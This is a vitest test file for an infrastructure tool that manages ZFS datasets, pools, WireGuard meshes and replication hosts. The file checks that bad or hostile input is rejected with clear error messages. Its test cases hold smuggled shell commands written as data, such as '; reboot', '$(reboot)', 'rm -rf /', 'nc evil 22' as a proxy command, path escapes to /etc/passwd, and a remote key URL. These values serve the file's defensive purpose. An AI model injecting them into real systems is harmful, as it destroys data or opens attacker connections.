/**
 * Bad input is refused before any command reaches a host, with a message that names the
 * construct path (at synth) or the resource address and path (at load) and the rule.
 */
import { describe, it, expect } from "vitest";
import { TerraformStack } from "cdktf";
import { Host, WireGuardMesh, Replication, type DatasetProps } from "../../constructs/index.js";
import { loadRefusal } from "./helpers/load.js";
import { hostProps, withHost } from "./helpers/synth.js";

function synthError(build: (host: Host, stack: TerraformStack) => void): string {
  try {
    withHost(build);
  } catch (e) {
    return (e as Error).message;
  }
  throw new Error("synth succeeded but should have failed");
}

const dataset = (props: Partial<DatasetProps>) => (h: Host) => {
  h.dataset("svc", { name: "tank/svc", ...props });
};

// [case, build, expected fragments of the message]
const SYNTH_CASES: Array<[string, (h: Host, s: TerraformStack) => void, string[]]> = [
  ["';' in a dataset name", dataset({ name: "tank/x; reboot" }), ["test/prod/svc", "backplane_dataset.name", "';'"]],
  ["'$(...)' in a dataset name", dataset({ name: "tank/$(reboot)" }), ["test/prod/svc", "'$'"]],
  ["a backtick in a dataset name", dataset({ name: "tank/`id`" }), ["'`'"]],
  ["a newline in a dataset name", dataset({ name: "tank/a\nb" }), ["control character"]],
  ["a tab in a dataset name", dataset({ name: "tank/a\tb" }), ["control character"]],
  ["'..' in a dataset name", dataset({ name: "tank/../etc" }), ["'..' component"]],
  ["'.' component", dataset({ name: "tank/./x" }), ["'.' component"]],
  ["empty component", dataset({ name: "tank//x" }), ["empty component"]],
  ["trailing slash", dataset({ name: "tank/x/" }), ["end with '/'"]],
  ["leading slash", dataset({ name: "/tank/x" }), ["starts with the pool"]],
  ["'@' in a filesystem name", dataset({ name: "tank/x@snap" }), ["'@'"]],
  ["'#' in a filesystem name", dataset({ name: "tank/x#bm" }), ["'#'"]],
  ["'%' in a name", dataset({ name: "tank/%recv" }), ["'%'"]],
  ["256-character name", dataset({ name: `tank/${"a".repeat(251)}` }), ["limit is 255"]],
  ["Cyrillic look-alike", dataset({ name: "tank/аpple" }), ["non-ASCII", "U+0430"]],
  ["fullwidth look-alike", dataset({ name: "tank/ｕploads" }), ["non-ASCII"]],
  ["zero-width space", dataset({ name: "tank/up\u200bloads" }), ["non-ASCII", "U+200B"]],
  ["pool starting with a digit", dataset({ name: "1tank/x" }), ["begin with a letter"]],
  ["pool starting with '-'", dataset({ name: "-tank/x" }), ["begin with a letter"]],
  ["reserved pool name", dataset({ name: "mirror/x" }), ["reserved"]],
  ["disk-like pool name", dataset({ name: "c0d0/x" }), ["'c' followed by a digit"]],
  ["a quote in a name", dataset({ name: "tank/it's" }), ["'''"]],
  ["recordsize 3K", dataset({ properties: { recordsize: "3K" } }), ["properties.recordsize", "power of 2"]],
  ["recordsize 32M", dataset({ properties: { recordsize: "32M" } }), ["at most 16M"]],
  ["recordsize 256", dataset({ properties: { recordsize: "256" } }), ["at least 512"]],
  ["compression zstd-20", dataset({ properties: { compression: "zstd-20" } }), ["properties.compression", "must be one of"]],
  ["compression brotli", dataset({ properties: { compression: "brotli" } }), ["must be one of"]],
  ["quota -1", dataset({ properties: { quota: "-1" } }), ["properties.quota", "bad numeric value"]],
  ["quota 5Q", dataset({ properties: { quota: "5Q" } }), ["invalid numeric suffix 'Q'"]],
  ["quota 0", dataset({ properties: { quota: "0" } }), ["use 'none'"]],
  ["quota too large", dataset({ properties: { quota: "99999999E" } }), ["too large"]],
  ["sync=disabled on a non-ephemeral dataset", dataset({ properties: { sync: "disabled" } }), ["properties.sync", "ephemeral", "Never use sync=disabled on anything you can't afford to lose on power failure."]],
  ["sync=disabled on the postgres profile", dataset({ profile: "postgres", properties: { sync: "disabled" } }), ["ephemeral"]],
  ["sync=off", dataset({ properties: { sync: "off" } }), ["standard, always, disabled"]],
  ["atime=yes", dataset({ properties: { atime: "yes" } }), ["on, off"]],
  ["unknown property", dataset({ properties: { recsz: "1M" } }), ["unknown or unsupported ZFS property 'recsz'"]],
  ["user property among native ones", dataset({ properties: { "com.x:owner": "me" } }), ["user_properties"]],
  ["volume property on a filesystem", dataset({ properties: { volblocksize: "16K" } }), ["does not apply to a filesystem"]],
  ["volume without volsize", dataset({ type: "volume" }), ["needs volsize"]],
  ["relative mountpoint", dataset({ properties: { mountpoint: "srv/x" } }), ["absolute path"]],
  ["mountpoint with '..'", dataset({ properties: { mountpoint: "/srv/../etc" } }), ["'..'"]],
  ["bad keylocation", dataset({ properties: { keylocation: "http://evil/key" } }), ["file:///"]],
  ["encryption algorithm", dataset({ properties: { encryption: "rot13" } }), ["must be one of"]],
  ["user property without ':'", dataset({ userProperties: { owner: "me" } }), ["user_properties.owner", "':'"]],
  ["user property in uppercase", dataset({ userProperties: { "Com:Owner": "me" } }), ["lowercase"]],
  ["the reserved ownership marker", dataset({ userProperties: { "backplane:managed": "x" } }), ["set by backplane itself"]],
  ["snapshot name with '/'", (h) => { h.snapshot("s", { dataset: "tank/x", name: "a/b" }); }, ["test/prod/s", "backplane_snapshot.name"]],
  ["snapshot of an invalid dataset", (h) => { h.snapshot("s", { dataset: "tank/x y;", name: "a" }); }, ["backplane_snapshot.dataset", "';'"]],
  ["retention half-specified", (h) => { h.snapshot("s", { dataset: "tank/x", name: "a", retainPrefix: "auto-" }); }, ["retain_prefix and retain_count go together"]],
  ["clone origin without '@'", (h) => { h.clone("c", { name: "tank/c", origin: "tank/x" }); }, ["backplane_clone.origin", "'@'"]],
  ["clone named as its origin", (h) => { h.clone("c", { name: "tank/x", origin: "tank/x@s" }); }, ["name of its origin"]],
  ["pool vdev that is not a device", (h) => { h.pool("p", { name: "tank", vdevs: ["sdb"] }); }, ["backplane_pool.vdevs", "absolute device or file path"]],
  ["pool vdev with shell characters", (h) => { h.pool("p", { name: "tank", vdevs: ["/dev/sdb;reboot"] }); }, ["absolute device or file path"]],
  ["pool vdev escaping with '..'", (h) => { h.pool("p", { name: "tank", vdevs: ["/dev/../etc/passwd"] }); }, ["absolute device or file path"]],
  ["pool without devices", (h) => { h.pool("p", { name: "tank" }); }, ["needs at least one device"]],
  ["pool device listed twice", (h) => { h.pool("p", { name: "tank", vdevs: ["mirror", "/dev/vdb", "/dev/vdb"] }); }, ["listed twice"]],
  ["31-byte WireGuard key", (h) => { h.wireguard("wg", { name: "wg0", addresses: ["10.0.0.1/24"] }).addPeer("p", { publicKey: Buffer.alloc(31, 7).toString("base64"), allowedIps: ["10.0.0.2/32"] }); }, ["backplane_wireguard_peer.public_key", "31 bytes"]],
  ["CIDR /33", (h) => { h.wireguard("wg", { name: "wg0", addresses: ["10.0.0.0/33"] }); }, ["backplane_wireguard_interface.addresses.0", "larger than 32"]],
  ["listen port 70000", (h) => { h.wireguard("wg", { name: "wg0", addresses: ["10.0.0.1/24"], listenPort: 70000 }); }, ["listen_port", "1..65535"]],
  ["interface name too long", (h) => { h.wireguard("wg", { name: "wireguard-interface0", addresses: ["10.0.0.1/24"] }); }, ["1-15 characters"]],
  ["endpoint without port", (h) => { h.wireguard("wg", { name: "wg0", addresses: ["10.0.0.1/24"] }).addPeer("p", { publicKey: Buffer.alloc(32, 7).toString("base64"), allowedIps: ["10.0.0.2/32"], endpoint: "10.200.0.2" }); }, ["host:port"]],
  ["host port 70000", (_h, s) => { new Host(s, "dr", hostProps({ port: 70000 })); }, ["test/dr", "port", "1..65535"]],
  ["ssh config under another user's home (ssh -F does not expand ~user)", (_h, s) => { new Host(s, "dr", hostProps({ sshConfigFile: "~ops/.ssh/config" })); }, ["test/dr", "ssh_config_file", "'~user/'"]],
  ["host key that is not a key", (_h, s) => { new Host(s, "dr", hostProps({ hostKey: "AAAA" })); }, ["OpenSSH public key"]],
  ["host address with a shell character", (_h, s) => { new Host(s, "dr", hostProps({ address: "host;reboot" })); }, ["not a valid host name"]],
  ["command prefix with a shell word", (_h, s) => { new Host(s, "dr", hostProps({ commandPrefix: ["sudo", "-n;id"] })); }, ["plain word"]],
  ["mesh CIDR too small", (h, s) => { new WireGuardMesh(s, "mesh", { hosts: [h, new Host(s, "dr", hostProps())], cidr: "10.0.0.0/31" }); }, ["test/mesh", "too small"]],
  ["replication into an invalid dataset", (h, s) => {
    const dr = new Host(s, "dr", hostProps());
    const src = h.dataset("up", { name: "tank/up" });
    new Replication(s, "rep", { source: src, target: dr, targetDataset: "backup/x;rm" });
  }, ["test/rep", "target_dataset", "';'"]],
];

describe("bad input is refused at synth with the construct path and the rule", () => {
  it.each(SYNTH_CASES)("%s", (_name, build, fragments) => {
    const message = synthError(build);
    for (const f of fragments) expect(message).toContain(f);
  });
});

/** A valid synthesized stack to tamper with, as a hand-edit of cdk.tf.json would. */
function goodDoc(): Record<string, any> {
  return withHost((h) => {
    const a = h.dataset("a", { name: "tank/a", profile: "uploads" });
    h.dataset("b", { name: "tank/b", dependsOn: [a] });
  });
}

function loadError(mutate: (doc: Record<string, any>) => void): string {
  const doc = goodDoc();
  mutate(doc);
  return loadRefusal(doc);
}

const ds = (doc: Record<string, any>, id: string) => {
  const all = doc.resource.backplane_dataset as Record<string, any>;
  return all[Object.keys(all).find((k) => k.startsWith(`prod_${id}_`))!];
};
const dsAddress = (doc: Record<string, any>, id: string) =>
  `backplane_dataset.${Object.keys(doc.resource.backplane_dataset).find((k) => k.startsWith(`prod_${id}_`))}`;

const LOAD_CASES: Array<[string, (doc: Record<string, any>) => void, string[]]> = [
  ["an injected property", (d) => { ds(d, "a").shell = "rm -rf /"; }, ["test/prod/a/resource", "unknown attribute 'shell'"]],
  ["an injected dataset name", (d) => { ds(d, "a").name = "tank/a; reboot"; }, ["test/prod/a/resource", "name", "';'"]],
  ["an injected property value", (d) => { ds(d, "a").properties.compression = "lz4; reboot"; }, ["properties.compression", "must be one of"]],
  ["sync=disabled edited in", (d) => { ds(d, "a").properties.sync = "disabled"; }, ["ephemeral"]],
  ["an unknown resource type", (d) => { d.resource.backplane_firewall = { x: { provider: "backplane.prod" } }; }, ["backplane_firewall", "unknown resource type"]],
  ["another provider", (d) => { d.provider.aws = [{ region: "x" }]; }, ["provider 'aws' is not supported"]],
  ["count", (d) => { ds(d, "a").count = 3; }, ["count is not supported"]],
  ["for_each", (d) => { ds(d, "a").for_each = {}; }, ["for_each is not supported"]],
  ["a module", (d) => { d.module = { m: {} }; }, ["modules are not supported"]],
  ["a variable", (d) => { d.variable = { v: {} }; }, ["variables are not supported"]],
  ["a function call", (d) => { ds(d, "a").name = "${upper(\"tank/a\")}"; }, ["expression backplane does not evaluate"]],
  ["string interpolation", (d) => { ds(d, "b").name = "tank/${backplane_dataset.x.name}-b"; }, ["expression backplane does not evaluate"]],
  ["a reference to nothing", (d) => { ds(d, "b").name = "${backplane_dataset.nope.name}"; }, ["refers to backplane_dataset.nope, which is not declared"]],
  ["a reference to a missing attribute", (d) => { ds(d, "b").name = `\${${dsAddress(d, "a")}.colour}`; }, ["does not have"]],
  ["a missing provider", (d) => { delete ds(d, "a").provider; }, ["needs provider"]],
  ["an undeclared host", (d) => { ds(d, "a").provider = "backplane.ghost"; }, ["backplane.ghost is not declared"]],
  ["a provider without alias", (d) => { delete d.provider.backplane[0].alias; }, ["needs an alias"]],
  ["a duplicated alias", (d) => { d.provider.backplane.push({ ...d.provider.backplane[0] }); }, ["declared twice"]],
  ["a provider with an injected attribute", (d) => { d.provider.backplane[0].proxy_command = "nc evil 22"; }, ["unknown attribute 'proxy_command'"]],
  ["depends_on an undeclared resource", (d) => { ds(d, "b").depends_on = ["backplane_dataset.ghost"]; }, ["depends_on names backplane_dataset.ghost"]],
  ["an unsupported lifecycle", (d) => { ds(d, "a").lifecycle = { ignore_changes: ["properties"] }; }, ["lifecycle.ignore_changes is not supported"]],
  ["a provisioner", (d) => { ds(d, "a").provisioner = [{ "local-exec": { command: "id" } }]; }, ["provisioners are not supported"]],
  ["an unsupported backend", (d) => { d.terraform = { backend: { s3: { bucket: "x" } } }; }, ["terraform.backend.s3 is not supported"]],
  ["a wrong attribute type", (d) => { ds(d, "a").ephemeral = "yes"; }, ["ephemeral"]],
  ["a missing required attribute", (d) => { delete ds(d, "a").name; }, ["'name' is required"]],
];

describe("bad input is refused at load with the address, the construct path and the rule", () => {
  it.each(LOAD_CASES)("%s", (_name, mutate, fragments) => {
    const message = loadError(mutate);
    for (const f of fragments) expect(message).toContain(f);
  });

  it("a reference cycle is refused with the cycle", () => {
    const message = loadError((d) => {
      ds(d, "a").depends_on = [dsAddress(d, "b")];
    });
    expect(message).toContain("dependency cycle");
    expect(message).toMatch(/backplane_dataset\.prod_a_\S+ -> backplane_dataset\.prod_b_\S+ -> backplane_dataset\.prod_a_/);
  });

  it("counts at least 60 distinct bad inputs", () => {
    expect(SYNTH_CASES.length + LOAD_CASES.length + 1).toBeGreaterThanOrEqual(60);
  });
});

